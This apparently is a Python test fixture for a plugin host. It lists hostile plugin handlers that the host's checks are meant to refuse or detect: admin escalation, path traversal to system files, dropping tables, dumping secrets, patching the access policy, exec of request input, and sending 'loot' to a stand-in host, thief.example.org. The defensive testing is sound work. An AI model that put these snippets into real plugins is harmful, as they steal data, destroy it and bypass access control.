"""The attacks of the zoo: what a plugin that means harm would write, one animal per attack.

Each is the body of a route handler. The line that the check must find ends with `# here`.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass

MANIFEST = """schema = 1
id = "thief"
api = ">=0.1,<1"
name = "Thief"
summary = "Of the tests."
objects = ["bag.toml"]
requires = { crm = ">=0" }
"""
BAG = """name = "bag"
fields = [{ name = "name", type = "text" }, { name = "whose", type = "lookup", target = "contact" }]
"""
CODE = """from karvan_sdk import Router, json_response

router = Router()
"""
ROUTE = """

@router.api("/go/{number}", permission="signed_in", methods=["POST"])
def go(ctx, request):
"""


@dataclass(frozen=True, kw_only=True)
class Animal:
    """One attack. `body` is the handler, `rules` what the check says of the marked lines, `code` the code of
    the error with which the host refuses it; empty where it does not pass the sdk, so nothing refuses it."""

    name: str
    body: str
    rules: frozenset[str]
    code: str = ""
    more: str = ""

    @property
    def plugin(self) -> str:
        """The code of the plugin."""
        return herd([self])


def herd(animals: Sequence[Animal]) -> str:
    """The code of a plugin with these attacks: the first behind `/go/0`."""
    code = CODE
    for number, animal in enumerate(animals):
        lines = (f"    {line}" if line else "" for line in animal.body.strip("\n").splitlines())
        code += ROUTE.format(number=number) + "\n".join(lines) + "\n"
    return code


def _animal(name: str, body: str, *rules: str, code: str = "", more: str = "") -> Animal:
    return Animal(name=name, body=body, rules=frozenset(rules), code=code, more=more)


ANIMALS = (
    # -- what passes the sdk: refused ------------------------------------------------------------------
    _animal(
        "makes itself an administrator",
        """
with ctx.records.write() as writer:
    return json_response(writer.create("user", {"email": "thief@example.org", "is_admin": True}))  # here
""",
        "access-write",
        "capability-missing",
        code="unknown_object",
    ),
    _animal(
        "makes everybody an administrator",
        """
with ctx.records.write() as writer:
    return json_response(writer.update("k_user", 1, {"is_admin": True}))  # here
""",
        "capability-missing",
        code="unknown_object",
    ),
    _animal(
        "reads what others keep",
        """
return json_response(ctx.records.list("contact").rows)  # here
""",
        "capability-missing",
        code="not_allowed",
    ),
    _animal(
        "counts what others keep",
        """
return json_response(ctx.records.aggregate("contact", measures=["count"]))  # here
""",
        "capability-missing",
        code="not_allowed",
    ),
    _animal(
        "writes what others keep",
        """
with ctx.records.write() as writer:
    writer.update("contact", 1, {"name": "Stolen"})  # here
return "done"
""",
        "capability-missing",
        code="not_allowed",
    ),
    _animal(
        "writes with a grant to read",
        """
with ctx.records.write() as writer:
    writer.delete("contact", 1)  # here
return "done"
""",
        "capability-missing",
        code="not_allowed",
        more='capabilities = ["records:read:contact"]\n',
    ),
    _animal(
        "reads a file of another plugin",
        """
return ctx.files.read("../bank/secret.txt").decode()  # here
""",
        "file-escape",
        code="bad_input",
        more='capabilities = ["files"]\n',
    ),
    _animal(
        "reads a file of the machine",
        """
return ctx.files.read("/etc/hostname").decode()  # here
""",
        "file-escape",
        code="bad_input",
        more='capabilities = ["files"]\n',
    ),
    _animal(
        "writes its own manifest",
        """
ctx.files.write("../../../karvan_thief/manifest.toml", b"")  # here
return "done"
""",
        "file-escape",
        code="bad_input",
        more='capabilities = ["files"]\n',
    ),
    _animal(
        "keeps files without a grant",
        """
ctx.files.write("loot", b"x")  # here
return "done"
""",
        "capability-missing",
        code="not_allowed",
    ),
    _animal(
        "calls home without a grant",
        """
return ctx.http.request("POST", "https://thief.example.org", data="loot").text  # here
""",
        "capability-missing",
        code="not_allowed",
    ),
    _animal(
        "reads secrets without a grant",
        """
return json_response(ctx.secrets.get("key"))  # here
""",
        "capability-missing",
        code="not_allowed",
    ),
    _animal(
        "puts work off without a grant",
        """
ctx.jobs.later("steal", {})  # here
return "done"
""",
        "capability-missing",
        code="not_allowed",
    ),
    # -- what goes around the sdk: found ---------------------------------------------------------------
    _animal(
        "asks the database itself who is an administrator",
        """
import sqlite3  # here

with sqlite3.connect("var/karvan.db") as database:
    database.execute("UPDATE k_user SET is_admin = 1 WHERE email = 'thief@example.org'")  # here
return "done"
""",
        "database-import",
        "raw-sql",
    ),
    _animal(
        "drops a table of the core",
        """
from karvan.database.models import db  # here
from sqlalchemy import text  # here

db.session.execute(text("DROP TABLE k_definition"))  # here
return "done"
""",
        "core-import",
        "database-import",
        "raw-sql",
    ),
    _animal(
        "drops a table of another plugin, name by name",
        """
for name in ("contact", "lead"):
    ctx.database.execute(f"DROP TABLE x_crm__{name}")  # here
return "done"
""",
        "raw-sql",
    ),
    _animal(
        "lets everybody see everything",
        """
import karvan.access.policy  # here

karvan.access.policy.record_predicate = lambda *given: None  # here
return "done"
""",
        "core-import",
        "monkeypatch",
    ),
    _animal(
        "patches without an import",
        """
import sys

sys.modules["karvan.access.policy"].check_may = print  # here
return "done"
""",
        "monkeypatch",
    ),
    _animal(
        "patches by names in texts",
        """
import importlib

policy = importlib.import_module("karvan.access.policy")  # here
setattr(importlib.import_module("karvan.access.policy"), "check_may", print)  # here
return "done"
""",
        "core-import",
        "monkeypatch",
    ),
    _animal(
        "gives itself grants",
        """
ctx.records._granted._capabilities = frozenset(["records:write:*"])  # here
return "done"
""",
        "private-attribute",
        "monkeypatch",
    ),
    _animal(
        "takes the actor's own records",
        """
return json_response(ctx.records._inner.list("contact").rows)  # here
""",
        "private-attribute",
    ),
    _animal(
        "looks for the host in memory",
        """
import gc

return str([one for one in gc.get_objects() if type(one).__name__ == "Host"])  # here
""",
        "introspection",
    ),
    _animal(
        "reads the secrets of all plugins",
        """
import sqlite3  # here

with sqlite3.connect("var/karvan.db") as database:
    return str(database.execute("SELECT plugin, name, value FROM k_setting").fetchall())  # here
""",
        "database-import",
        "raw-sql",
    ),
    _animal(
        "answers below another plugin's prefix",
        """
from flask import current_app  # here

current_app.add_url_rule("/x/crm/login", view_func=go)
return "done"
""",
        "core-import",
    ),
    _animal(
        "sends the loot by itself",
        """
import socket  # here

socket.create_connection(("thief.example.org", 443)).sendall(b"loot")
return "done"
""",
        "network",
    ),
    _animal(
        "runs what it was sent",
        """
exec(request.body())  # here
return "done"
""",
        "dynamic-code",
    ),
    _animal(
        "starts a process that stays",
        """
import os

os.system("nohup thief &")  # here
return "done"
""",
        "process",
    ),
)
GRANTS = tuple(dict.fromkeys(animal.more for animal in ANIMALS if animal.code))
"""The manifests with which attacks pass the sdk."""


def passing(more: str) -> list[Animal]:
    """The attacks that pass the sdk with one of `GRANTS`."""
    return [animal for animal in ANIMALS if animal.code and animal.more == more]
